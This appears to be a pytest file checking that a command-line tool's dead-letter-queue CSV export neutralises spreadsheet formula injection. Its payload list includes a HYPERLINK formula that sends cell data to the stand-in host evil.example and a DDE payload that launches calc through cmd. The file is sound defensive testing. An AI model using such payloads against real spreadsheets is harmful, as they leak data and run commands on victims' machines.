"""CSV export cannot inject formulas: a spreadsheet opening it sees text, not commands."""

from __future__ import annotations

import csv
import json
from pathlib import Path

from tests.cli.conftest import Runner, as_json

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def test_no_cell_starts_like_a_formula(cli: Runner, fresh_db: str, tmp_path: Path) -> None:
    payloads = [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,1)",
        "\t=1+1",
        "\r=1+1",
    ]
    for text in payloads:
        data = json.dumps({"scenario": "bad_key", "prompt": text})
        as_json(cli("enqueue", "demo.generate", "--data", data, "--user", text, "--json"))
    assert cli("worker", "--burst", "--log-level", "error")[0] == 0
    path = tmp_path / "dlq.csv"
    code, out, err = cli("dlq", "export", "--format", "csv", "--output", str(path))
    assert code == 0 and "exported 6 entries" in out, err
    # Read it back as a spreadsheet would: the csv module undoes the quoting.
    with path.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == len(payloads)
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(DANGEROUS), (column, cell)
    users = sorted(row["user_id"] for row in rows)
    assert users == sorted("'" + text for text in payloads)  # kept, as text
    jsonl = [json.loads(line) for line in cli("dlq", "export")[1].splitlines()]
    assert sorted(e["user_id"] for e in jsonl) == sorted(payloads)  # JSON is not altered
